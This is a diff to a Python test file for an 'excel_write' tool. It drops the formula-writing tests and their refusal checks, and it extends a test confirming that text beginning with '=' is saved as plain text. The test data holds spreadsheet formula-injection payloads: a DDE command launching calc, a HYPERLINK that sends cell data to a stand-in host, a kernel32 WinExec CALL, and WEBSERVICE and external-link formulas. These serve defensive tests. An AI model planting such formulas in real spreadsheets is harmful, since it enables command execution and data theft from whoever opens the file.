@@ -1,4 +1,4 @@
-"""excel_write: checks, overwriting, and formulas."""
+"""excel_write: checks and overwriting."""
 
 from __future__ import annotations
 
@@ -75,7 +75,6 @@ FAILING = [
     ({"path": "a.xlsx", "rows": ROWS, "start": "B"}, "bad-range"),
     ({"path": "a.xlsx", "rows": ROWS, "start": "A1:B2"}, "bad-range"),
     ({"path": "a.xlsx", "rows": ROWS, "start": "Two!A1"}, "bad-range"),
-    ({"path": "a.xlsx", "rows": [['=WEBSERVICE("x")']], "formulas": True}, "unsafe-formula"),
 ]
 
 
@@ -100,9 +99,10 @@ def test_arguments_are_checked_before_the_disk_is_asked(excel):
 
 
 def test_a_text_stays_a_text(excel):
-    evil = ["=1+1", "=cmd|'/c calc'!A1", "+1", "-1", "@SUM(A1)", "#N/A", "007", "2026-01-31"]
+    evil = ["=1+1", "=cmd|'/c calc'!A1", "=[1]Sheet1!A1", '=HYPERLINK("http://x/"&A1)',
+            "+1", "-1", "@SUM(A1)", "#N/A", "007", "2026-01-31"]  # fmt: skip
     reply = excel.call("excel_write", path="a.xlsx", rows=[evil, [10**15, 10**15 - 1, True]])
-    assert "2 texts that begin with `=` were written as text" in reply.text
+    assert "4 texts that begin with `=` were written as text" in reply.text
     assert "1 numbers have more than 15 digits" in reply.text
     sheet = load_workbook(os.path.join(excel.project, "a.xlsx"))["Sheet1"]
     assert [cell.value for cell in sheet[1]] == evil
@@ -110,30 +110,3 @@ def test_a_text_stays_a_text(excel):
     assert sheet["A1"].quotePrefix
     assert sheet["A2"].value == str(10**15)
     assert sheet["B2"].value == 10**15 - 1
-
-
-def test_a_formula_is_written_when_it_is_asked_for(excel):
-    rows = [[1, 2, "=SUM(A1:B1)", "=Other!A1+Sheet1!B1", "=SUM(Table1[Amount])+Sheet1!A1"]]
-    excel.call("excel_write", path="a.xlsx", rows=rows, formulas=True)
-    sheet = load_workbook(os.path.join(excel.project, "a.xlsx"))["Sheet1"]
-    assert [cell.data_type for cell in sheet[1]] == ["n", "n", "f", "f", "f"]
-
-
-@pytest.mark.parametrize(
-    "formula",
-    [
-        "=cmd|'/c calc'!A1",
-        '=HYPERLINK("http://x/"&A1)',
-        '=webservice("x")',
-        "='[other.xlsx]Sheet1'!A1",
-        "=[1]Sheet1!A1",
-        r"='\\host\share\[b.xlsx]S'!A1",
-        '=IMAGE("https://x/y.png")',
-        '=RTD("a",,"b")',
-        '=CALL("kernel32","WinExec")',
-    ],
-)
-def test_a_formula_that_reaches_out_is_refused(excel, formula):
-    words = {"path": "a.xlsx", "rows": [["x", formula]], "formulas": True}
-    assert excel.failed("excel_write", **words) == "unsafe-formula"
-    assert excel.call("excel_write", path="a.xlsx", rows=[[formula]]).status == "success"
